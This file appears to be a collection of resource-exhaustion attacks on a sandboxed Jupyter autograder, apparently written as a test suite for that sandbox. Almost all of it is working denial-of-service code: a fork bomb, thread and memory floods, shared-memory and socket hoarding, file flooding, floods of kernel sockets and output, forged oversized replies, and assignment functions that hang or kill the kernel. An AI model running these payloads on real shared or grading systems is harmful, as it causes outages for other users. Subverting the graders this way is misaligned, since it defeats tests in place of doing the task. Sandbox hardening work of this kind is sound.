# Attacks on the machine: memory, processor, disk and time.

# %% memory: arrays until there is no more
hoard = []
while True:
    hoard.append(np.ones(20_000_000))

# %% memory: shared between many processes
import mmap, os
read, write = os.pipe()
piece = bytes(1 << 20)
for _ in range(8):
    if os.fork() == 0:
        memory = mmap.mmap(-1, 400 << 20)
        for _ in range(400):
            memory.write(piece)
        os.write(write, b".")
        os.read(os.pipe()[0], 1)
for _ in range(8):
    os.read(read, 1)
print("BREACH: 3.2 GB were shared")

# %% memory: files in memory
import os
hoard = []
for _ in range(40):
    file = os.memfd_create("hoard")
    hoard.append(file)
    for _ in range(60):
        os.write(file, bytes(1 << 20))
print("BREACH: 2.4 GB of files in memory")

# %% memory: what is shared without being mapped
import ctypes
libc = ctypes.CDLL(None)
mine = 0  # IPC_PRIVATE
print([f"BREACH: {what}" for what, number in [
    ("shared memory", libc.shmget(mine, ctypes.c_size_t(1 << 30), 0o1600)), ("semaphores", libc.semget(mine, 30_000, 0o1600)),
    ("messages", libc.msgget(mine, 0o1600)), ("a queue", libc.mq_open(b"/hoard", 0o102, 0o600, None))] if number >= 0])

# %% memory: sockets, which could be filled
import os, signal, socket, struct
read, write = os.pipe()
children = 0
while True:
    try:
        child = os.fork()
    except OSError:
        break
    if child == 0:
        opened = []
        try:
            while True:
                opened += socket.socketpair()
        except OSError:
            pass
        os.write(write, struct.pack("i", len(opened)))
        signal.pause()
    children += 1
together = sum(struct.unpack("i", os.read(read, 4))[0] for _ in range(children))
if together > 20_000:
    print("BREACH:", together, "sockets")

# %% memory: files without content
import os
made = 0
for folder in ("/tmp", "/dev/shm", "/home/student"):
    try:
        for number in range(50_000):
            os.mknod(f"{folder}/{number}")
            made += 1
    except OSError:
        pass
if made > 100_000:
    print("BREACH:", made, "files")

# %% memory: temporary files of all folders
import os
written = 0
for folder in ("/tmp", "/dev/shm", "/home/student", "/kernel", "/dev", "/", "/kernel/files"):
    for number in range(40):
        try:
            with open(f"{folder}/hoard-{number}", "wb") as file:
                for _ in range(16):
                    written += file.write(bytes(1 << 20))
                    file.flush()
        except OSError:
            break
if written > 250 << 20:
    print("BREACH:", written >> 20, "MB of files")

# %% processes: a fork bomb
import os
while True:
    try:
        os.fork()
    except OSError:
        pass

# %% processes: threads
import threading, time
while True:
    try:
        threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
    except RuntimeError:
        time.sleep(0.01)

# %% output: endless
while True:
    print("x" * 100_000)

# %% output: endless, from a thread, during the tests, in large pieces
import threading
kernel = get_ipython().kernel
parent = kernel.get_parent()
large = "x" * 30_000_000
def flood():
    while True:
        kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": large}, parent)
threading.Thread(target=flood, daemon=True).start()

# %% output: one message without an end
import os, socket, stat, struct, threading, time
def peers():
    for number in range(3, 500):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                with socket.socket(fileno=os.dup(number)) as one:
                    name, other = one.getsockname(), one.getpeername()
                if isinstance(name, str) and name.startswith("/kernel/socket-"):
                    yield number, name
        except OSError:
            pass
def pour(number):
    part = b"\x03" + struct.pack(">Q", 1 << 20) + bytes(1 << 20)
    while True:
        view = memoryview(part)
        while len(view):
            try:
                view = view[os.write(number, view):]
            except BlockingIOError:
                time.sleep(0.001)
for number, name in list(peers()):
    if name.endswith(("-1", "-2", "-6")):
        threading.Thread(target=pour, args=(number,), daemon=True).start()
# cell output_shape
def output_shape(image_shape, kernel_shape):
    import time
    time.sleep(100)

# %% replies: an array of nothing with a large shape
# forging
def handle(request, answer):
    value = ({name: ["object", 1, "function", True, name, name] for name in request["names"]} if request["do"] == "names" else
             {"result": ["array", "<U0", [30_000_000_000], [0], 0, False], "changed": []})
    answer({"value": value}, b"")
forge(handle)

# %% replies: larger than any answer
# cell output_shape
def output_shape(image_shape, kernel_shape):
    return np.ones(60_000_000)
# cell corr2d
def corr2d(image, kernel):
    return [[[0.0] * 1000] * 1000]
# cell box_filter
def box_filter(image, size):
    result = 1
    for _ in range(200):
        result = (result, result)
    return result

# %% replies: without an end
import itertools
# cell output_shape
def output_shape(image_shape, kernel_shape):
    class Endless(list):
        def __iter__(self): return itertools.count()
        def __len__(self): return 2
    return Endless()
# cell corr2d
def corr2d(image, kernel):
    result = []
    result.append(result)
    return result
# cell box_filter
def box_filter(image, size):
    return itertools.count()

# %% replies: numbers that take for ever to print
# cell output_shape
def output_shape(image_shape, kernel_shape):
    return 1 << 30_000_000, 1 << 30_000_000
# cell corr2d
def corr2d(image, kernel):
    return np.full((10**4, 10**4), 1, "i1")
# cell box_filter
def box_filter(image, size):
    return 10 ** 4000

# %% replies: many large messages at once, to the tests
# forging
large = bytes(60 << 20)
def handle(request, answer):
    for number in range(100):
        answer({"value": number, "number": -number}, *[large] * 3)
forge(handle)

# %% time: every function sleeps
import time
# cell output_shape
def output_shape(image_shape, kernel_shape):
    time.sleep(1000)
# cell corr2d
def corr2d(image, kernel):
    while True:
        pass
# cell box_filter
def box_filter(image, size):
    return "a" * 10**6 == "b" or [x for x in iter(int, 1)]

# %% time: kernels that die again and again
import os
state = "/kernel/files/count"
os._exit(1)
# cell output_shape
import os
os._exit(1)
# cell corr2d
import os
def corr2d(image, kernel):
    os._exit(1)
# after corr2d
import os
os._exit(1)
# cell box_filter
import os
def box_filter(image, size):
    os._exit(1)
# after box_filter
import os
os._exit(1)
